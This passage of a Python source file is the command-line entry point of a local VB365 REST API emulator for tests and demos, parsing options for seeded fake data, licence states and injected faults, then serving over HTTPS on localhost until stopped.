    parser = argparse.ArgumentParser(description='Emulate the VB365 REST API on 127.0.0.1 for demos and tests.')
    parser.add_argument('--host', default='127.0.0.1', help='address to bind (default %(default)s)')
    parser.add_argument('--port', type=int, default=0, help='port to bind; 0 picks a free one (default)')
    parser.add_argument('--product', type=int, choices=sorted(PRODUCT_VERSIONS), default=8,
                        help='VB365 release to emulate: 8 serves v5-v8, 7 serves v5-v7, 6 v5-v6, 5 v5 only')
    parser.add_argument('--http', action='store_true', help='plain HTTP instead of HTTPS')
    parser.add_argument('--state-dir', help='where to write emulator.json and the CA file (default: a temp dir)')
    parser.add_argument('--seed', type=int, default=365, help='seed of the generated data (default %(default)s)')
    parser.add_argument('--large-session-items', type=int, default=0,
                        help='add one finished session with this many operations (up to 1,000,000)')
    parser.add_argument('--jobs', type=int, default=0,
                        help='total number of jobs; generated ones are added to the seven seeded jobs')
    parser.add_argument('--organizations', type=int, default=0,
                        help='total number of organizations; generated ones are added to the four seeded ones')
    parser.add_argument('--users', type=int, default=40,
                        help='licensed users, spread over the organizations and made page by page (default '
                             '%(default)s; every licence state and problem shows from 20)')
    parser.add_argument('--license', choices=LICENSE_MODES, default='over',
                        help='the licence: over its limit (default), expiring within 12 days, expired, or ok')
    parser.add_argument('--token-lifetime', type=int, default=3600, help='access-token lifetime in seconds')
    parser.add_argument('--username', default=DEFAULT_USERNAME)
    parser.add_argument('--password', default=DEFAULT_PASSWORD)
    parser.add_argument('--fault', action='append', type=parse_fault, default=[], metavar='NAME=VALUE',
                        help='start with a fault switched on, e.g. --fault server_errors=2 (repeatable)')
    parser.add_argument('--no-rate-limit', action='store_true', help='do not rate-limit /token')
    parser.add_argument('--exit-with-parent', action='store_true',
                        help='stop when the process that started the emulator ends (never outlive a test run)')
    parser.add_argument('--verbose', action='store_true', help='log every request to stderr')
    return parser


def main(argv=None):
    parser = build_parser()
    args = parser.parse_args(argv)
    if args.users < 0:
        parser.error('--users is a number of users, 0 or more')
    faults = dict(args.fault)
    if args.no_rate_limit:
        faults['token_rate_limit'] = False
    state_dir = args.state_dir or tempfile.mkdtemp(prefix='vb365-emulator-')
    os.makedirs(state_dir, exist_ok=True)
    emulator = Emulator(args.product, args.seed, args.large_session_items, args.token_lifetime, args.username,
                        args.password, faults, jobs=args.jobs, organizations=args.organizations,
                        users=args.users, license=args.license)
    context = None
    ca_path = None
    if not args.http:
        cert_path, key_path, ca_path = make_certificate(state_dir)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(cert_path, key_path)
    server = EmulatorServer((args.host, args.port), emulator, context, args.verbose)
    port = server.server_address[1]
    url = '%s://%s:%d' % ('http' if args.http else 'https', args.host, port)
    world = emulator.world
    info = {
        'url': url, 'host': args.host, 'port': port, 'pid': os.getpid(), 'ca_path': ca_path,
        'product': args.product, 'versions': list(emulator.versions), 'username': args.username,
        'password': args.password,
        'jobs': [{'id': job['id'], 'name': job['name'], 'enabled': job['enabled'], 'organization': job['org']['name']}
                 for job in world.jobs],
        'sessions': [{'id': session.id, 'job_name': session.job['name'], 'job_id': session.job['id'],
                      'status': session.status, 'item_count': session.item_count, 'running': session.running,
                      'will_be_retried': session.will_be_retried, 'creation_time': fmt_time(session.start)}
                     for session in world.sessions],
        'large_session_id': world.large.id if world.large else None,
        'users': args.users, 'license': args.license,
        'organizations': [{'id': org['id'], 'name': org['name'], 'licensed_users': count,
                           'unlicensed_users': unlicensed}
                          for org, count, unlicensed in zip(world.organizations, emulator.estate.counts,
                                                            emulator.estate.unlicensed)],
    }
    state_file = os.path.join(state_dir, 'emulator.json')
    with open(state_file + '.tmp', 'w') as handle:
        json.dump(info, handle, indent=2)
    os.replace(state_file + '.tmp', state_file)

    def stop(_signum, _frame):
        threading.Thread(target=server.shutdown, daemon=True).start()

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    if args.exit_with_parent:
        parent = os.getppid()

        def watch_parent():
            while os.getppid() == parent:
                time.sleep(1)
            server.shutdown()

        threading.Thread(target=watch_parent, daemon=True).start()
    print('vb365 emulator (VB365 %d: %s) listening on %s; state in %s' % (
        args.product, ', '.join(emulator.versions), url, state_file), flush=True)
    try:
        server.serve_forever(poll_interval=0.2)
    finally:
        server.server_close()
    return 0


if __name__ == '__main__':
    sys.exit(main())
